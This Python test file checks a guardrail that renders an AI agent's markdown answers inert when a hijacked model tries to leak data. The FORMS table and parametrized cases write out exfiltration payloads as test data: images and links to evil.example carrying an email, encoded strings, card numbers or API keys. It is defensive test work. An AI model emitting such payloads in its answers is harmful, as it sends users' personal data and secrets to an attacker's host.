"""A hijacked model's answer cannot carry data out through the page that shows it: no image
loads from a host outside WARDEN_OUTPUT_IMAGE_HOSTS, and a link whose URL carries data is shown
as inert text. Real runs with a scripted model, rendered by the chat, the reviewer's held-answer
page, the trace page; the API flags what it returns as written."""

import json
import re

import pytest

from agents.models import Conversation, Run
from agents.orchestrator import run_execute
from agents.services import run_start
from audit.models import AuditEvent
from governance.guardrails.output import exfiltration, render_markdown
from governance.models import Escalation
from integrations.tests.conftest import application_for, token_of
from tests.model_server import Reply

pytestmark = pytest.mark.django_db

SECRET = "jane.doe@example.com"
# Each form a published markdown-exfiltration attack takes, and what must not be in the page.
FORMS = {
    "markdown image with data": (
        f"Done. ![status](https://evil.example/p.png?u={SECRET})",
        "[image removed: status; its URL carried personal data]",
    ),
    "markdown image, no data": (
        "Done. ![status](https://evil.example/pixel.png)",
        "[image not loaded: status, from evil.example]",
    ),
    "reference-style image": (
        "Done. ![status][p]\n\n[p]: https://evil.example/p.png?q=SGVsbG8sIHRoaXMgaXMgYSBzZWNyZXQ",
        "[image removed: status; its URL carried an encoded value]",
    ),
    "link with data in the query": (
        f"Done, [see your ticket](https://evil.example/t?email={SECRET}).",
        "see your ticket<em> [link removed: it carried personal data]</em>",
    ),
    "link with a placeholder of redacted data": (
        "Done, [open](https://evil.example/t?c=[CARD_1]).",
        "open<em> [link removed: it carried a placeholder of redacted personal data]</em>",
    ),
    "autolink with data": (
        f"Done <https://evil.example/t?e={SECRET}>",
        "[link removed: it carried personal data]",
    ),
    "HTML img in markdown": (
        f'Done <img src="https://evil.example/p.png?u={SECRET}">',
        "&lt;img src=",
    ),
}


def answered(server, agent, user, text) -> Run:
    server.script("primary", Reply.say(text))
    conversation = Conversation.objects.create(owner=user, agent=agent)
    run = run_start(agent=agent, conversation=conversation, actor=user, input="status?")
    run_execute(run_id=run.pk, holder="test")
    return Run.objects.get(pk=run.pk)


def nothing_loads_or_links_out(html: str) -> None:
    assert not re.search(r"<img\b", html)
    assert not re.search(r"<a\b[^>]*evil\.example", html)


def api_run(client, user, run) -> dict:
    """The run as the API returns it to an application of its owner's."""
    token = token_of(client, application_for(user, "CRM"), "runs:read")
    response = client.get(f"/api/v1/runs/{run.pk}", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert response.status_code == 200, response.content
    return response.json()


@pytest.mark.parametrize("form", list(FORMS))
def test_an_answer_cannot_load_or_link_data_out_of_the_chat(
    client, people, help_desk, server, form
):
    markdown, shown = FORMS[form]
    run = answered(server, help_desk, people.member, markdown)
    assert run.state == "succeeded"
    assert run.answer == markdown  # kept as the model wrote it
    client.force_login(people.member)

    for url in (f"/chat/runs/{run.pk}/", f"/chat/c/{run.conversation_id}/"):
        response = client.get(url)
        page = response.content.decode()
        answer = page.split('class="bubble answer">', 1)[1].split("</div>", 1)[0]
        nothing_loads_or_links_out(answer)
        assert shown in answer
        assert "img-src 'self' data:;" in response["Content-Security-Policy"]
    # The trace page never renders the answer as HTML.
    nothing_loads_or_links_out(client.get(f"/runs/{run.pk}/").content.decode())


def test_a_link_without_data_stays_a_link(client, people, help_desk, server):
    run = answered(
        server, help_desk, people.member, "See [the policy](https://intranet.example/hr)."
    )
    client.force_login(people.member)

    page = client.get(f"/chat/runs/{run.pk}/").content.decode()

    assert '<a href="https://intranet.example/hr" rel="noopener noreferrer nofollow">' in page
    assert not AuditEvent.objects.filter(run=str(run.pk), action="guardrail.found").exists()
    assert api_run(client, people.member, run)["answer_findings"] == []


def test_an_answer_carrying_data_is_flagged_in_the_trail_and_the_api(
    client, people, help_desk, server
):
    markdown = f"Done. ![s](https://evil.example/p.png?u={SECRET}) [t](https://ok.example/a)"

    run = answered(server, help_desk, people.member, markdown)

    [found] = AuditEvent.objects.filter(run=str(run.pk), action="guardrail.found")
    assert json.loads(found.data) == {
        "on": "answer",
        "findings": [
            {"guardrail": "exfiltration", "host": "evil.example", "reason": "personal data"}
        ],
    }
    body = api_run(client, people.member, run)
    assert body["answer"] == markdown  # the API returns the text as written, and says so
    assert body["answer_findings"] == [
        {"guardrail": "exfiltration", "host": "evil.example", "reason": "personal data"}
    ]


def test_a_held_answer_is_inert_on_the_reviewers_page(client, people, help_desk):
    markdown, shown = FORMS["markdown image with data"]
    conversation = Conversation.objects.create(owner=people.member, agent=help_desk)
    run = Run.objects.create(
        agent=help_desk,
        conversation=conversation,
        actor=people.member,
        input="status?",
        state="awaiting_review",
    )
    held = Escalation.objects.create(
        run_id=run.pk,
        agent_id=help_desk.pk,
        requested_by=people.member,
        question="status?",
        answer=markdown + f" [more](https://evil.example/m?d={SECRET})",
        confidence="0.400",
        threshold="0.80",
    )
    client.force_login(people.reviewer)

    page = client.get(f"/inbox/answers/{held.pk}/").content.decode()

    answer = page.split('class="bubble answer">', 1)[1].split("</div>", 1)[0]
    nothing_loads_or_links_out(answer)
    assert shown in answer
    assert "[link removed: it carried personal data]" in answer


def test_images_show_from_an_allowed_host_and_the_policy_lets_them_load(
    client, people, help_desk, server, settings
):
    settings.WARDEN_OUTPUT_IMAGE_HOSTS = ["cdn.example"]
    run = answered(server, help_desk, people.member, "![chart](https://cdn.example/c.png)")
    client.force_login(people.member)

    response = client.get(f"/chat/runs/{run.pk}/")

    assert '<img src="https://cdn.example/c.png" alt="chart">' in response.content.decode()
    assert "img-src 'self' data: https://cdn.example;" in response["Content-Security-Policy"]
    # From the allowed host too, an image whose URL carries data does not load.
    assert "<img" not in render_markdown(f"![c](https://cdn.example/c.png?u={SECRET})")
    assert "<img" not in render_markdown("![c](http://cdn.example/c.png)")  # https only


@pytest.mark.parametrize(
    "url",
    [
        "https://www.google.com/search?q=django+markdown",
        "https://docs.djangoproject.com/en/5.2/ref/settings/#std-setting-SECRET_KEY",
        "https://github.com/django/django/commit/3f2a9c0d1e2b3a4c5d6e7f8091a2b3c4d5e6f708",
        "https://example.com/?utm_source=newsletter&utm_medium=email",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "https://example.com/how-to-configure-the-thing-in-production-step-by-step",
        "https://shop.example/item/12345?ref=home",
        "mailto:support@company.example?subject=Leave%20request",  # the address it shows
    ],
)
def test_ordinary_urls_are_not_exfiltration(url):
    assert exfiltration(url) is None


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("https://e.example/c?x=jane%40example.com", "personal data"),
        ("https://e.example/c?card=4111111111111111", "personal data"),
        ("https://e.example/c?x=%5BEMAIL_1%5D", "a placeholder of redacted personal data"),
        ("https://e.example/c?api_key=abc", "a secret (api_key)"),
        ("https://e.example/c?k=sk-abcdefghijklmnopqrstuv", "a secret"),
        ("https://e.example/c?d=" + "a" * 80, "a long value (80 characters)"),
        ("https://e.example/c?q=SGVsbG8sIHRoaXMgaXMgYSBzZWNyZXQ", "an encoded value"),
        ("https://e.example/log/am9obkBleGFtcGxlLmNvbSBwYXNzd29yZA", "an encoded value"),
        ("https://e.example/c#token=abcdef", "a secret (token)"),
        ("mailto:x@e.example?body=card%204111111111111111", "personal data"),
    ],
)
def test_urls_carrying_data_are_flagged_with_the_reason(url, reason):
    assert exfiltration(url) == reason
    assert not re.search(r"<a |<img", render_markdown(f"[x]({url}) ![y]({url})"))


def test_a_link_carrying_a_pseudonym_of_personal_data_is_removed():
    """What reviewers see is the answer with each value hashed: the hash stands for the value,
    and a link that would send it out is removed as one carrying the value would be."""
    shown = render_markdown("[more](https://evil.example/m?d=[EMAIL:0123456789abcdef]) ok")

    assert "evil.example" not in shown
    assert "[link removed: it carried personal data]" in shown
